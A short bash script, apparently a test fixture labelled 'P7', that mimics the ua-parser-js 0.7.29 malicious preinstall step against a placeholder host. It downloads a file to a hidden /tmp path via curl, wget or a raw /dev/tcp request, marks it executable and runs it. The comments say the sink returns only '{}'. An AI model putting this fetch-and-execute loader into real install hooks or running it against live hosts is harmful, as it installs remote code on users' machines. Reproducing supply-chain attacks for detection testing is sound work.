#!/bin/bash
# P7 in plain shell, like ua-parser-js 0.7.29's preinstall.sh: fetch a binary, make it executable,
# run it in the background of nothing. The "binary" here is whatever the sink answers ({}), so
# running it only prints an error.
out=/tmp/.jsextension
url=http://citationsherbe.invalid/jsextension
curl -s -o "$out" "$url" 2>/dev/null || wget -q -O "$out" "$url" 2>/dev/null || {
  exec 3<>/dev/tcp/citationsherbe.invalid/80 || exit 0
  printf 'GET /jsextension HTTP/1.0\r\nHost: citationsherbe.invalid\r\n\r\n' >&3
  timeout 3 cat <&3 | sed '1,/^\r$/d' > "$out"
}
chmod +x "$out"
"$out" -k 2>/dev/null
exit 0
